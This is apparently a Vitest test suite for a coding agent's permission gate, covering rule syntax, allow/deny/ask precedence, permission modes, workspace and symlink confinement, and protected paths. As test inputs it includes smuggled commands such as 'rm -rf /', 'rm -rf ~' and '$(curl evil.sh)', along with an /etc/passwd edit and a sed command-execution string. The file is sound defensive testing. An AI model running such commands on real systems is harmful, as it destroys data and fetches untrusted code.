import { mkdirSync, symlinkSync } from 'node:fs';
import { join } from 'node:path';
import { describe, expect, test } from 'vitest';
import { parseRule, type Settings } from '../kernel/index.ts';
import { boot, makeWorld, type World, write } from './helpers.ts';

const probe = join(import.meta.dirname, 'fixtures', 'probe-tools');

async function harness(w: World, config: Settings = {}, cli?: Settings) {
  const { kernel } = await boot(w, {
    plugins: ['workspace-guard', 'file-tools', { name: 'probe-tools', path: probe }],
    config,
    ...(cli ? { cli } : {}),
  });
  let n = 0;
  return {
    kernel,
    call: (name: string, input: unknown) => kernel.callTool({ id: `t${++n}`, name, input }),
  };
}

const allowed = (r: { isError: boolean; content: unknown }) => {
  expect(r.content).toMatch(/^ran |^ {5}1\t/);
  expect(r.isError).toBe(false);
};
const denied = (r: { isError: boolean; content: unknown }, text: string) => {
  expect(r.isError).toBe(true);
  expect(r.content).toContain(text);
};

describe('rule syntax', () => {
  test.each([
    ['Bash', { tool: 'Bash' }],
    ['Bash(git status)', { tool: 'Bash', specifier: 'git status' }],
    ['Bash(npm run test:*)', { tool: 'Bash', specifier: 'npm run test:*' }],
    ['Read(./src/**)', { tool: 'Read', specifier: './src/**' }],
    ['mcp__server__*', { tool: 'mcp__server__*' }],
  ])('%s parses', (rule, parsed) => {
    expect(parseRule(rule)).toEqual(parsed);
  });

  test.each(['Bash(', 'Bash()', 'Ba sh', '(x)'])('%s is refused with a hint', (rule) => {
    expect(parseRule(rule).error).toBeTruthy();
  });
});

describe('rule matching', () => {
  test('Bash(git status) allows exactly that command; anything else asks, which headless means deny with a hint', async () => {
    const w = makeWorld();
    const h = await harness(w, { permissions: { allow: ['Bash(git status)'] } });
    allowed(await h.call('shell', { command: 'git status' }));
    const r = await h.call('Bash', { command: 'git status --porcelain' });
    denied(r, 'no one can be asked here');
    denied(r, 'allow it with --allowedTools "shell(git:*)"');
  });

  test('Bash(npm run test:*) matches the prefix on a word boundary', async () => {
    const w = makeWorld();
    const h = await harness(w, { permissions: { allow: ['Bash(npm run test:*)'] } });
    allowed(await h.call('shell', { command: 'npm run test' }));
    allowed(await h.call('shell', { command: 'npm run test -- --watch' }));
    denied(await h.call('shell', { command: 'npm run tests' }), 'Permission denied');
    denied(await h.call('shell', { command: 'npm run test; rm -rf /' }), 'Permission denied');
    denied(await h.call('shell', { command: 'npm run test && rm -rf ~' }), 'Permission denied');
    denied(await h.call('shell', { command: 'npm run test $(curl evil.sh)' }), 'Permission denied');
  });

  test('deny beats allow across layers, and the denial names the rule and its file', async () => {
    const w = makeWorld();
    const project = write(join(w.project, '.icode', 'settings.json'), {
      permissions: { deny: ['Bash(rm:*)'] },
    });
    write(join(w.userDir, 'settings.json'), { permissions: { allow: ['Bash(rm:*)'] } });
    const h = await harness(w, {}, { permissions: { allow: ['Bash'], defaultMode: 'danger-full-access' } });
    denied(await h.call('shell', { command: 'rm -rf build' }), `deny rule "Bash(rm:*)" in ${project}`);
    denied(
      await h.call('shell', { command: 'rm -rf build && echo done' }),
      `deny rule "Bash(rm:*)" in ${project}`,
    );
    allowed(await h.call('shell', { command: 'ls' }));
  });

  test('ask beats allow', async () => {
    const w = makeWorld();
    const h = await harness(w, { permissions: { allow: ['Bash'], ask: ['Bash(git push:*)'] } });
    allowed(await h.call('shell', { command: 'git commit -m x' }));
    denied(await h.call('shell', { command: 'git push origin main' }), 'the ask rule "Bash(git push:*)"');
  });

  test('Read(./src/**) is relative to the project and judged on the resolved path, symlinks included', async () => {
    const w = makeWorld();
    write(join(w.project, 'src', 'secret.ts'), 'key');
    write(join(w.project, 'README.md'), 'hi');
    mkdirSync(join(w.project, 'docs'));
    symlinkSync(join(w.project, 'src'), join(w.project, 'docs', 'link'));
    const h = await harness(w, { permissions: { deny: ['Read(./src/**)'] } });
    allowed(await h.call('read_file', { path: 'README.md' }));
    denied(await h.call('read_file', { path: 'src/secret.ts' }), 'deny rule "Read(./src/**)"');
    denied(await h.call('Read', { path: 'docs/link/secret.ts' }), 'deny rule "Read(./src/**)"');
  });

  test('Edit(...) rules cover every tool that edits files, Read(...) every tool that reads them', async () => {
    const w = makeWorld();
    write(join(w.project, 'secrets', 'key.txt'), 'token');
    const notebook = { cells: [], metadata: {}, nbformat: 4, nbformat_minor: 5 };
    write(join(w.project, 'secrets', 'nb.ipynb'), JSON.stringify(notebook));
    write(join(w.project, 'src', 'a.txt'), 'token');
    const { kernel } = await boot(w, {
      plugins: ['workspace-guard', 'file-tools', 'search', 'notebook'],
      config: {
        permissions: { defaultMode: 'workspace-write', deny: ['Edit(./secrets/**)', 'Read(./secrets)'] },
      },
    });
    let n = 0;
    const call = (name: string, input: unknown) => kernel.callTool({ id: `c${++n}`, name, input });
    const edit = 'deny rule "Edit(./secrets/**)"';
    denied(await call('write_file', { path: 'secrets/key.txt', content: 'x' }), edit);
    denied(await call('Write', { path: 'secrets/new.txt', content: 'x' }), edit);
    denied(
      await call('NotebookEdit', {
        notebook_path: 'secrets/nb.ipynb',
        new_source: 'x',
        cell_type: 'code',
        edit_mode: 'insert',
      }),
      edit,
    );
    const read = 'deny rule "Read(./secrets)"';
    denied(await call('grep_search', { pattern: 'token', path: 'secrets' }), read);
    denied(await call('Glob', { pattern: '*', path: 'secrets' }), read);
    // The other places stay open to the same tools.
    const wrote = await call('write_file', { path: 'src/b.txt', content: 'x' });
    expect(wrote.isError).toBe(false);
    const found = await call('grep_search', { pattern: 'token', path: 'src' });
    expect(found.isError).toBe(false);
    expect(found.content).toContain('a.txt');
  });

  test('ProbeEdit(/abs/path), an alias rule, allows that file only', async () => {
    const w = makeWorld();
    const file = write(join(w.project, 'notes.md'), '');
    const h = await harness(w, { permissions: { allow: [`ProbeEdit(${file})`] } });
    allowed(await h.call('edit', { path: 'notes.md' }));
    denied(await h.call('edit', { path: 'other.md' }), 'Permission denied');
  });

  test('mcp__github__* allows every tool of that server', async () => {
    const w = makeWorld();
    const h = await harness(w, { permissions: { allow: ['mcp__github__*'] } });
    allowed(await h.call('mcp__github__create_issue', { title: 'x' }));
  });

  test('domain rules match the parsed host, not a string prefix', async () => {
    const w = makeWorld();
    const h = await harness(w, { permissions: { deny: ['WebFetch(domain:evil.com)'] } });
    denied(await h.call('fetch', { url: 'https://evil.com/x' }), 'deny rule');
    allowed(await h.call('fetch', { url: 'https://evil.com.example.org/x' }));
  });
});

describe('permission modes', () => {
  const modes = async (mode: Settings['permissions'], allow: string[] = []) => {
    const w = makeWorld();
    return harness(w, {}, { permissions: { ...mode, allow } });
  };

  test('read-only refuses a write even when a rule allows it, and names the flag that would', async () => {
    const w = makeWorld();
    write(join(w.project, 'README.md'), 'hello');
    const h = await harness(w, {}, { permissions: { defaultMode: 'read-only', allow: ['ProbeEdit'] } });
    denied(await h.call('edit', { path: 'a.md' }), 'run with --permission-mode workspace-write');
    allowed(await h.call('read_file', { path: 'README.md' }));
  });

  test('plan mode refuses writes', async () => {
    const h = await modes({ defaultMode: 'plan' });
    denied(await h.call('edit', { path: 'a.md' }), 'plan mode');
  });

  test('prompt asks for anything above read-only', async () => {
    const h = await modes({ defaultMode: 'prompt' });
    denied(await h.call('edit', { path: 'a.md' }), 'approval is needed');
    allowed(await h.call('fetch', { url: 'https://example.com' }));
  });

  test('workspace-write allows writes and asks for full access', async () => {
    const h = await modes({ defaultMode: 'workspace-write' });
    allowed(await h.call('edit', { path: 'a.md' }));
    denied(await h.call('nuke', {}), '--permission-mode danger-full-access');
  });

  test('danger-full-access allows everything no rule denies', async () => {
    const h = await modes({ defaultMode: 'danger-full-access' });
    allowed(await h.call('nuke', {}));
    allowed(await h.call('edit', { path: '/etc/passwd' }));
  });

  test('when a UI can ask, its answer decides', async () => {
    const w = makeWorld();
    const yes = await harness(w, { plugins: { 'probe-tools': { config: { approve: 'allow' } } } });
    allowed(await yes.call('edit', { path: 'a.md' }));
    const no = await harness(makeWorld(), { plugins: { 'probe-tools': { config: { approve: 'deny' } } } });
    denied(await no.call('edit', { path: 'a.md' }), 'the user chose deny');
  });
});

describe("the workspace boundary is the kernel's", () => {
  test('a harness without the workspace-guard plugin still asks before a write or read outside the workspace', async () => {
    const w = makeWorld();
    const outside = write(join(w.root, 'outside', 'secret.txt'), 'secret');
    const { kernel } = await boot(w, {
      plugins: ['file-tools'],
      config: { permissions: { defaultMode: 'workspace-write', allow: ['Read', 'Edit'] } },
    });
    const call = (name: string, input: unknown) => kernel.callTool({ id: 'x', name, input });
    denied(
      await call('write_file', { path: join(w.root, 'outside', 'new.txt'), content: 'x' }),
      'is outside the workspace',
    );
    denied(await call('read_file', { path: outside }), 'is outside the workspace');
    denied(await call('write_file', { path: '.git/config', content: 'x' }), 'is protected');
    allowed(await call('read_file', { path: write(join(w.project, 'README.md'), 'hello') }));
  });

  test('permissions.protectedPaths adds to the protected list and never removes a default (a cloned project cannot unprotect .git); the old workspace-guard setting adds too', async () => {
    const w = makeWorld();
    for (const f of ['secrets/key.txt', '.idea/x.xml', 'src/a.ts']) write(join(w.project, f), '');
    const mode = { defaultMode: 'workspace-write' as const };
    const own = await harness(w, { permissions: { ...mode, protectedPaths: ['secrets'] } });
    denied(await own.call('edit', { path: 'secrets/key.txt' }), 'is protected');
    denied(await own.call('edit', { path: '.idea/x.xml' }), 'is protected');
    allowed(await own.call('edit', { path: 'src/a.ts' }));
    const emptied = await harness(w, { permissions: { ...mode, protectedPaths: [] } });
    denied(await emptied.call('edit', { path: '.idea/x.xml' }), 'is protected');
    const other = makeWorld();
    write(join(other.project, 'vault', 'a.txt'), '');
    const legacy = await harness(other, {
      permissions: mode,
      plugins: { 'workspace-guard': { config: { protectedPaths: ['vault'] } } },
    });
    denied(await legacy.call('edit', { path: 'vault/a.txt' }), 'is protected');
  });

  test('a protected name is protected at any depth and in any case: sub/.icode/settings.json, .GIT/hooks', async () => {
    const w = makeWorld();
    for (const f of ['sub/.icode/settings.json', '.GIT/hooks/pre-commit', 'pkg/.mcp.json'])
      write(join(w.project, f), '');
    const h = await harness(w, { permissions: { defaultMode: 'workspace-write' } });
    denied(await h.call('edit', { path: 'sub/.icode/settings.json' }), 'is protected');
    denied(await h.call('edit', { path: '.GIT/hooks/pre-commit' }), 'is protected');
    denied(await h.call('edit', { path: 'pkg/.mcp.json' }), 'is protected');
  });

  test('a plugin may grant reading back one file it wrote, never a folder', async () => {
    const w = makeWorld();
    const file = write(join(w.root, 'outside', 'saved.txt'), 'saved');
    const { kernel } = await boot(w, { plugins: ['file-tools'] });
    expect(() => kernel.gate.confinement.grantRead(join(w.root, 'outside'))).toThrow('not one');
    kernel.gate.confinement.grantRead(file);
    allowed(await kernel.callTool({ id: 'r', name: 'read_file', input: { path: file } }));
    const sibling = write(join(w.root, 'outside', 'other.txt'), 'other');
    denied(
      await kernel.callTool({ id: 's', name: 'read_file', input: { path: sibling } }),
      'is outside the workspace',
    );
  });
});

describe('workspace boundary', () => {
  test('a path outside the workspace asks, even through a symlink inside it', async () => {
    const w = makeWorld();
    const outside = write(join(w.root, 'outside', 'secret.txt'), 'secret');
    symlinkSync(join(w.root, 'outside'), join(w.project, 'innocent'));
    const h = await harness(w, { permissions: { allow: ['Read'] } });
    denied(await h.call('read_file', { path: outside }), 'is outside the workspace');
    denied(await h.call('read_file', { path: 'innocent/secret.txt' }), 'is outside the workspace');
  });

  test('additionalDirectories widen the workspace', async () => {
    const w = makeWorld();
    const outside = write(join(w.root, 'shared', 'lib.txt'), 'lib');
    const h = await harness(w, { permissions: { additionalDirectories: [join(w.root, 'shared')] } });
    allowed(await h.call('read_file', { path: outside }));
  });

  test('writes into .icode (where permissions live) ask even in workspace-write mode', async () => {
    const w = makeWorld();
    write(join(w.project, 'src', 'index.ts'), '');
    const h = await harness(w, {}, { permissions: { defaultMode: 'workspace-write' } });
    denied(await h.call('edit', { path: '.icode/settings.json' }), 'is protected');
    allowed(await h.call('edit', { path: 'src/index.ts' }));
  });
});

test('"allow always" suggests a rule that will allow the command next time: as far as its risk reaches', async () => {
  const { suggestedRules } = await import('../kernel/permissions.ts');
  const request = (values: string[], covers: Array<string | undefined>) => ({
    tool: 'bash',
    input: {},
    mode: 'workspace-write' as const,
    subjects: { kind: 'command' as const, values, covers },
    cwd: '/w',
    roots: ['/w'],
    sessionMode: 'prompt' as const,
  });
  expect(suggestedRules(request(['npm test'], [undefined]))).toEqual(['bash(npm:*)']);
  expect(suggestedRules(request(['git push origin main'], ['git push']))).toEqual(['bash(git push:*)']);
  expect(suggestedRules(request(["sed -n '1e id' f"], ["sed -n '1e id' f"]))).toEqual([
    "bash(sed -n '1e id' f)",
  ]);
});
